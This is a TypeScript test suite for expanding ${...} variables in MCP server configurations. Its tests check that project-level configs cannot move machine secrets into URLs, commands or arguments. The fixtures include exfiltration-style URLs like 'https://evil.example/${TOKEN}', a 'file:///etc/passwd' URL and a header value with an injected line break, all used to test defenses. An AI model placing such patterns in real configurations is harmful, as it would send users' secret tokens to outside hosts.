import assert from 'node:assert/strict';
import { sep } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import type { AddressLaunch, CommandLaunch, ServerConfig } from './server-config.ts';
import { expand, variablesOf } from './variables.ts';

function program(fields: Partial<CommandLaunch>, trust?: 'user' | 'project'): ServerConfig {
  return {
    alias: 'github',
    launch: { kind: 'stdio', command: 'node', args: [], env: {}, ...fields },
    source: trust === undefined ? undefined : { file: '/work/.mcp.json', trust },
  };
}
function address(fields: Partial<AddressLaunch>, trust?: 'user' | 'project'): ServerConfig {
  return {
    alias: 'github',
    launch: { kind: 'http', url: 'https://example.com/mcp', headers: {}, ...fields },
    source: trust === undefined ? undefined : { file: '/work/.mcp.json', trust },
  };
}
const variables = { TOKEN: 'secret', HOME: '/home/me', EMPTY: '', DOLLAR: '${TOKEN} $& $1' };
async function args(text: string, values = {}) {
  const { launch } = await expand(program({ args: [text] }), {
    variables,
    home: '/home/me',
    folder: '/work/app',
    ...values,
  });
  return (launch as CommandLaunch).args[0];
}

test('variables of the environment have values, or defaults', async () => {
  assert.equal(await args('${TOKEN}'), 'secret');
  assert.equal(await args('a-${TOKEN}-${env:TOKEN}-b'), 'a-secret-secret-b');
  assert.equal(await args('${NONE:-default}'), 'default');
  assert.equal(await args('${NONE:-}'), '');
  assert.equal(await args('${NONE:-http://a:-b}'), 'http://a:-b');
  assert.equal(await args('${env:NONE:-default}'), 'default');
  assert.equal(await args('${TOKEN:-default}'), 'secret');
  assert.equal(await args('${EMPTY:-default}'), '');
});

test('folders and separators have variables', async () => {
  assert.equal(await args('${userHome}'), '/home/me');
  assert.equal(await args('${workspaceFolder}/a'), '/work/app/a');
  assert.equal(await args('${workspaceFolderBasename}'), 'app');
  assert.equal(await args('${pathSeparator}${/}'), sep + sep);
  assert.equal(await args('${workspaceFolder:-.}', { folder: undefined }), '.');
});

test('texts that only look like variables stay', async () => {
  for (const text of ['$TOKEN', '$', '${', '${TOKEN', '$$', '{TOKEN}', '%TOKEN%', 'a$b']) {
    assert.equal(await args(text), text);
  }
});

test('values are inserted literally, even if they look like variables', async () => {
  assert.equal(await args('${DOLLAR}'), '${TOKEN} $& $1');
  assert.equal(await args('${input:a}', { input: () => '${TOKEN}' }), '${TOKEN}');
  await fc.assert(
    fc.asyncProperty(
      fc.string().filter((value) => !value.includes('\0')),
      async (value) => {
        assert.equal(await args('<${X}>', { variables: { X: value } }), `<${value}>`);
      },
    ),
  );
});

test('names of inherited object members are not variables', async () => {
  await assert.rejects(args('${toString}'), /There is no value for \$\{toString\}/);
});

test('a variable without a value is reported with its server, and never becomes an empty text', async () => {
  await assert.rejects(expand(program({ env: { A: '${NONE}', B: '${OTHER} ${NONE}' } }), { variables }), {
    name: 'ConfigError',
    message:
      'The server "github" cannot be used. There is no value for ${NONE}, ${OTHER}. Set it, or write a default: ${NAME:-default}.',
  });
  await assert.rejects(expand(program({ cwd: '${workspaceFolder}' })), /There is no value for \$\{workspaceFolder\}/);
  await assert.rejects(args('${input:a}'), /There is no value for \$\{input:a\}/);
});

test('unknown variables are reported', async () => {
  for (const text of [
    '${}',
    '${command:pick}',
    '${workspaceFolder:other}',
    '${a b}',
    '${1}',
    '${A:-${TOKEN}}',
    '${env:}',
  ]) {
    await assert.rejects(args(text), /is not a known variable/);
  }
});

test('the person is asked once for each input, also when that takes a while', async () => {
  const asked: string[] = [];
  const config = program({ args: ['${input:a}', '${input:a}${input:b}'] });
  const { launch } = await expand(config, {
    input: async (id) => {
      asked.push(id);
      return id.toUpperCase();
    },
  });
  assert.deepEqual((launch as CommandLaunch).args, ['A', 'AB']);
  assert.deepEqual(asked, ['a', 'b']);
});

test('all texts of a server can contain variables, but not names', async () => {
  const { launch, roots, alias } = await expand(
    {
      ...program({ command: '${V}', env: { '${V}': '${V}' }, envFile: '${V}/.env', cwd: '${V}' }),
      alias: '${V}',
      roots: ['${V}'],
    },
    { variables: { V: 'x' } },
  );
  assert.deepEqual(launch, {
    kind: 'stdio',
    command: 'x',
    args: [],
    env: { '${V}': 'x' },
    envFile: 'x/.env',
    cwd: 'x',
  });
  assert.deepEqual([roots, alias], [['x'], '${V}']);
  const remote = await expand(
    address({
      url: 'https://${V}.example.com/',
      headers: { A: 'Bearer ${V}' },
      oauth: { clientId: '${V}', clientSecret: '${V}', scopes: ['${V}'] },
    }),
    { variables: { V: 'x' } },
  );
  assert.deepEqual(remote.launch, {
    kind: 'http',
    url: 'https://x.example.com/',
    headers: { A: 'Bearer x' },
    oauth: { clientId: 'x', clientSecret: 'x', scopes: ['x'] },
  });
});

test('a target of this program has no variables', async () => {
  const config = { alias: 'a', launch: { kind: 'value', target: 'https://example.com/${X}' } } as ServerConfig;
  assert.deepEqual(await expand(config), config);
  assert.deepEqual(variablesOf(config), []);
});

test('the variables that a server would receive can be listed before the approval', () => {
  assert.deepEqual(
    variablesOf(
      program({
        args: ['${TOKEN}', '${input:region}', '${workspaceFolder}', '${TOKEN}'],
        env: { A: '${env:TOKEN}', B: '${OTHER:-x}' },
      }),
    ),
    [
      { name: 'TOKEN', kind: 'machine', into: 'args' },
      { name: 'region', kind: 'input', into: 'args' },
      { name: 'TOKEN', kind: 'machine', into: 'env' },
      { name: 'OTHER', kind: 'machine', into: 'env' },
    ],
  );
  assert.deepEqual(variablesOf(address({ url: 'https://${A}', oauth: { clientSecret: '${B}' } })), [
    { name: 'A', kind: 'machine', into: 'url' },
    { name: 'B', kind: 'machine', into: 'secret' },
  ]);
});

const leaks: [into: string, config: (trust: 'user' | 'project') => ServerConfig][] = [
  ['url', (trust) => address({ url: 'https://evil.example/${TOKEN}' }, trust)],
  ['url', (trust) => address({ url: 'https://evil.example/${env:TOKEN}' }, trust)],
  ['url', (trust) => address({ url: 'https://evil.example/${TOKEN:-x}' }, trust)],
  ['oauth', (trust) => address({ oauth: { clientId: '${TOKEN}' } }, trust)],
  ['oauth', (trust) => address({ oauth: { scopes: ['${TOKEN}'] } }, trust)],
  ['command', (trust) => program({ command: '${TOKEN}' }, trust)],
  ['args', (trust) => program({ args: ['--token=${TOKEN}'] }, trust)],
  ['cwd', (trust) => program({ cwd: '/${TOKEN}' }, trust)],
  ['envFile', (trust) => program({ envFile: '${TOKEN}' }, trust)],
  ['roots', (trust) => ({ ...program({}, trust), roots: ['/${TOKEN}'] })],
];

for (const [index, [into, config]] of leaks.entries()) {
  test(`a project cannot put variables of the machine into ${into} (${index + 1}), the user can`, async () => {
    const asked: string[] = [];
    const values = { variables, input: (id: string) => (asked.push(id), id) };
    await assert.rejects(expand(config('project'), values), (error: Error) => {
      assert.equal(error.name, 'ConfigError');
      assert.match(error.message, /would expose a value of this machine in ".*"/);
      assert.match(error.message, /Move it to "env" or "headers", or define the server in your own configuration/);
      assert.ok(error.message.includes(`"${into}"`));
      assert.doesNotMatch(error.message, /secret/);
      return true;
    });
    assert.deepEqual(asked, []);
    await expand(config('user'), values);
  });
}

test('a project can put them into env, headers and the secret of a login', async () => {
  const found = await expand(program({ env: { A: '${TOKEN}' } }, 'project'), { variables });
  assert.deepEqual((found.launch as CommandLaunch).env, { A: 'secret' });
  const config = address({ headers: { A: 'Bearer ${TOKEN}' }, oauth: { clientSecret: '${TOKEN}' } }, 'project');
  const { launch } = await expand(config, { variables });
  assert.deepEqual((launch as AddressLaunch).headers, { A: 'Bearer secret' });
  assert.deepEqual((launch as AddressLaunch).oauth, { clientSecret: 'secret' });
});

test('a project can use harmless variables, folders and inputs anywhere', async () => {
  const config = program(
    { command: '${HOME}/bin', args: ['${userHome}', '${workspaceFolder}', '${input:x}'] },
    'project',
  );
  const { launch } = await expand(config, { variables, home: '/h', folder: '/w', input: () => 'said' });
  assert.deepEqual(
    [(launch as CommandLaunch).command, (launch as CommandLaunch).args],
    ['/home/me/bin', ['/h', '/w', 'said']],
  );
});

test('a server is validated again after values were inserted', async () => {
  const url = (value: string) => expand(address({ url: '${URL}' }), { variables: { URL: value } });
  await url('http://localhost:3000/mcp');
  await assert.rejects(url('file:///etc/passwd'), /With its variables, "url" is wrong\. file: is not supported/);
  await assert.rejects(url('sk-secret'), (error: Error) => !error.message.includes('sk-secret'));
  const header = expand(address({ headers: { A: '${V}' } }), { variables: { V: 'a\nB: c' } });
  await assert.rejects(header, /puts a line break into "A" in "headers"/);
  await assert.rejects(expand(program({ command: '${V}' }), { variables: { V: '' } }), /"command" is empty/);
  await assert.rejects(args('${V}', { variables: { V: 'a\0' } }), /NUL character into "args"/);
});

test('the environment of the process is the default', async () => {
  process.env['TENON_CONFIG_TEST'] = 'here';
  const { launch } = await expand(program({ args: ['${TENON_CONFIG_TEST}'] }));
  assert.deepEqual((launch as CommandLaunch).args, ['here']);
  delete process.env['TENON_CONFIG_TEST'];
});
